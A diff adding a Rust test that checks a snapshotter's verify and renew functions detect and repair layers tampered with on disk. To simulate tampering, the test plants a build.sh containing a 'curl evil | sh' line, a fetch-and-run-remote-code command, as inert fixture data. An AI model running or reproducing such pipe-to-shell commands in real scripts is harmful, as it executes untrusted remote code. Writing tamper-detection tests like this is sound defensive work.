@@ -7,7 +7,7 @@ use std::os::unix::fs::{MetadataExt, PermissionsExt};
 use std::path::Path;
 
 use super::fixture::{Fixture, Spec};
-use crate::{BackendKind, ChangeOptions, Content, Kind, SnapshotError};
+use crate::{BackendKind, ChangeOptions, Content, Info, Kind, SnapshotError};
 
 /// The base tree most checks start from.
 pub const BASE: &[Spec<'static>] = &[
@@ -826,4 +826,52 @@ pub fn reverse_again_and_keep_newer_edits(fx: &Fixture) {
 /// The view's root directory, open: reversals write beneath a descriptor.
 fn open_dir(view: &Path) -> OwnedFd {
     std::fs::File::open(view).unwrap().into()
+}
+
+/// Layers changed behind the snapshotter's back (an older release left them
+/// where their owner could write) are found by `verify` and put right by
+/// `renew`: a base layer and a layer committed on it, each changed on disk,
+/// are reported with the tree they hold; renewed, they hold their recorded
+/// trees again, and a child sees exactly what was committed.
+pub fn verify_and_renew_changed_layers(fx: &Fixture) {
+    let base = fx.base("base", BASE);
+    let view = fx.prepare("ws", Some("base"));
+    std::fs::write(view.join("README"), "edited\n").unwrap();
+    std::fs::remove_file(view.join("src/main.c")).unwrap();
+    let v1 = fx.commit("v1", "ws");
+    assert_eq!(fx.snap.verify("base").unwrap(), None, "an untouched base");
+    assert_eq!(fx.snap.verify("v1").unwrap(), None, "an untouched layer");
+    if !layered(fx) {
+        // Committed snapshots of the mirror are trees in the store only.
+        return;
+    }
+    let layer = |info: &Info| {
+        fx.root()
+            .join("snapshotter/snapshots")
+            .join(&info.id)
+            .join("fs")
+    };
+    std::fs::write(layer(&base).join("build.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    std::fs::write(layer(&v1).join("README"), "planted\n").unwrap();
+    let found = fx.snap.verify("base").unwrap();
+    assert!(found.is_some_and(|t| Some(t) != base.tree), "{found:?}");
+    assert!(fx.snap.verify("v1").unwrap().is_some());
+
+    let mut txn = fx.snap.begin();
+    let renewed_v1 = fx.snap.renew(&mut txn, "v1").unwrap();
+    let renewed_base = fx.snap.renew(&mut txn, "base").unwrap();
+    txn.commit_to(&fx.records).unwrap();
+    assert_eq!(renewed_v1.tree, v1.tree);
+    assert_eq!(renewed_v1.parent, None);
+    assert_ne!(renewed_v1.id, v1.id);
+    assert_eq!(renewed_base.tree, base.tree);
+    assert!(!layer(&v1).exists(), "the changed layer went to the trash");
+    assert_eq!(fx.snap.verify("base").unwrap(), None);
+    assert_eq!(fx.snap.verify("v1").unwrap(), None);
+    let child = fx.prepare("ws2", Some("v1"));
+    assert_eq!(fx.capture(&child), v1.tree.unwrap());
+    let listed = super::listing(&child);
+    assert_eq!(listed["README"], "file edited\n");
+    assert!(!listed.contains_key("src/main.c"));
+    assert_eq!(listed["build.sh"], "file #!/bin/sh\nmake\n exec");
 }
